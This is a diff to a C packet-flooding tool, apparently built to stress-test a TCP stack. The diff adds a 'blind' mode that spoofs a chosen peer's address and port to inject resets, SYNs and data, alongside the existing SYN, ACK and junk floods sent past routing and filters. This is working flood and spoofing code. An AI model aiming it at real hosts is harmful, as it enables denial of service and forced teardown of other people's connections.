@@ -4,9 +4,11 @@
  * rate.
  *
  *     utcp-flood IFNAME ADDRESS PORT syn|ack|junk SECONDS [PACKETS_A_SECOND]
+ *     utcp-flood IFNAME ADDRESS PORT blind SECONDS RATE FROM_ADDRESS FROM_PORT
  *
  * syn: connections that nobody means; ack: acknowledgements of nothing (guesses
- * at SYN cookies); junk: random flags and options. Sources are random addresses
+ * at SYN cookies); junk: random flags and options; blind: resets, SYNs, data and
+ * ends in the name of a peer, by who knows all but the numbers. Other sources are random addresses
  * of 198.18.0.0/15 or 2001:db8::/32. Written to the interface past routing and
  * filters; says as JSON how many.
  */
@@ -53,6 +55,10 @@ put_sum(uint8_t *at, uint32_t sum)
 	at[1] = (uint8_t)~sum;
 }
 
+/* blind: in whose name */
+static uint8_t from[16];
+static uint16_t from_port;
+
 static unsigned int
 make_tcp(uint8_t *tcp, uint16_t port, const char *kind)
 {
@@ -76,6 +82,17 @@ make_tcp(uint8_t *tcp, uint16_t port, const char *kind)
 	memcpy(tcp + 20, options, 20);
 	if (!syn) /* timestamps alone */
 		memcpy(tcp + 20, "\1\1\10\12abcdefgh\1\1\1\1\1\1\1", 20);
+	if (*kind == 'b') {
+		static const uint8_t flags[] = { 0x04, 0x14, 0x02, 0x12,
+						 0x10, 0x18, 0x11, 0x00 };
+
+		r = draw();
+		tcp[0] = (uint8_t)(from_port >> 8);
+		tcp[1] = (uint8_t)from_port;
+		tcp[12] = r & 8 ? 5 << 4 : 8 << 4; /* options, or data */
+		tcp[13] = flags[r & 7];
+		memset(tcp + 32, 0x5a, 8);
+	}
 	if (*kind == 'j') {
 		r = draw();
 		tcp[12] = (uint8_t)r;
@@ -103,6 +120,8 @@ make_packet(uint8_t *p, int family, const uint8_t *dst, uint16_t port,
 		p[12] = 198;
 		p[13] = (uint8_t)(18 | (r & 1));
 		memcpy(p + 14, &r, 2);
+		if (*kind == 'b')
+			memcpy(p + 12, from, 4);
 		memcpy(p + 16, dst, 4);
 		n = make_tcp(p + 20, port, kind);
 		p[3] = (uint8_t)(20 + n);
@@ -117,6 +136,8 @@ make_packet(uint8_t *p, int family, const uint8_t *dst, uint16_t port,
 	p[7] = 64;
 	memcpy(p + 8, "\x20\x01\x0d\xb8", 4);
 	memcpy(p + 16, &r, 8);
+	if (*kind == 'b')
+		memcpy(p + 8, from, 16);
 	memcpy(p + 24, dst, 16);
 	n = make_tcp(p + 40, port, kind);
 	p[5] = (uint8_t)n;
@@ -146,8 +167,8 @@ main(int argc, char **argv)
 	int fd, family, n;
 
 	if (argc < 6) {
-		fputs("usage: utcp-flood IFNAME ADDRESS PORT syn|ack|junk "
-		      "SECONDS [RATE]\n",
+		fputs("usage: utcp-flood IFNAME ADDRESS PORT "
+		      "syn|ack|junk|blind SECONDS [RATE [FROM PORT]]\n",
 		      stderr);
 		return 2;
 	}
@@ -162,6 +183,11 @@ main(int argc, char **argv)
 	}
 	seconds = atof(argv[5]);
 	rate = argc > 6 ? atof(argv[6]) : 1e9;
+	if (*argv[4] == 'b') {
+		if (argc < 9 || inet_pton(family, argv[7], from) != 1)
+			return 2;
+		from_port = (uint16_t)atoi(argv[8]);
+	}
 	memset(msgs, 0, sizeof(msgs));
 	for (start = clock_s(); clock_s() - start < seconds;) {
 		if ((double)sent > (clock_s() - start) * rate) {
